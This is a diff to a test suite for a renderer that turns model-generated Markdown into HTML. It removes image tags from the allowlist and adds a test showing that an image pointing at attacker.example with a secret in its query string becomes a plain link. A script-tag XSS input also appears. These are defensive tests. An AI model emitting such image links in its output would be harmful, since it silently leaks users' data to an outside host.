@@ -31,7 +31,6 @@ const payloads = [
 /** Every tag the renderer may produce, with the attributes each may carry. */
 const allowed: Record<string, readonly string[]> = {
   a: ["href", "title", "target", "rel"],
-  img: ["src", "alt", "title", "loading"],
   pre: ["class", "data-language", "tabindex"],
   code: ["class"],
   p: [],
@@ -81,12 +80,19 @@ describe("Markdown from a model", () => {
         for (const [name, value] of attributes) {
           expect(allowed[tag], `${name} on <${tag}> in ${html}`).toContain(name);
           if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/i);
-          if (name === "src") expect(value).toMatch(/^https?:/i);
         }
         if (tag === "a") expect(attributes.get("rel")).toBe("noopener noreferrer");
       }
     });
   }
+
+  it("never loads an image by itself: it is a link naming its host", () => {
+    const html = renderMarkdown("![status](https://attacker.example/p.png?d=the+secret)");
+    expect(html).not.toMatch(/<img/);
+    expect(html).toContain('href="https://attacker.example/p.png?d=the+secret"');
+    expect(html).toContain("image: status");
+    expect(html).toContain("(attacker.example)");
+  });
 
   it("keeps what the model meant to show, as text", () => {
     expect(renderMarkdown("<script>alert(1)</script>")).toContain("&lt;script&gt;");
